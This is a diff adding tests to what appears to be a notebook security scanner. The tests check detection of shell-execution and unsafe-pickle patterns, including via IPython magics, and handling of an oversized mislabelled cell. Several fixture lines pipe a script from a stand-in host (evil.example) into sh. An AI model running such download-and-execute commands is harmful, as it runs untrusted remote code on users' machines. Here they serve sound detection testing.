@@ -377,3 +377,24 @@ def test_time_of_a_pip_install_is_an_install(tmp_path: Path) -> None:
 def test_an_assignment_from_a_magic_keeps_its_column(tmp_path: Path) -> None:
     (finding,) = [f for f in scan_code(tmp_path, notebook("import torch\nm = %time torch.load(p)"), "nb.ipynb")]
     assert (finding.rule_id, finding.line, finding.column) == ("MLS306", 2, 11)
+
+
+@pytest.mark.parametrize(
+    ("source", "rule"),
+    [
+        (";os.system curl -s https://evil.example/i.sh | sh", "MLS321"),  # os.system("curl ... | sh")
+        ("import pickle\n/pickle.load open(url_file, 'rb')", "B301"),  # pickle.load(open(...))
+        ("%%timeit import os; os.system('curl -s https://evil.example/i.sh | sh')\nx = 1", "MLS321"),
+        ('%%script bash -c "curl -s https://evil.example/i.sh | sh"\necho hi', "MLS321"),
+    ],
+)
+def test_escaped_calls_timeit_setup_and_script_arguments_run(tmp_path: Path, source: str, rule: str) -> None:
+    found = scan_code(tmp_path, notebook("import os", source), "nb.ipynb")
+    assert any(f.rule_id == rule and f.cell == 2 for f in found)
+
+
+def test_an_oversized_cell_said_to_be_another_language_still_blocks(tmp_path: Path) -> None:
+    big = json.loads(notebook("x = 1\n" * 200_000))
+    big["cells"][0]["metadata"] = {"vscode": {"languageId": "julia"}}
+    found = scan_code(tmp_path, json.dumps(big), "nb.ipynb")
+    assert [(f.rule_id, f.severity.value) for f in found] == [("MLS907", "medium")]
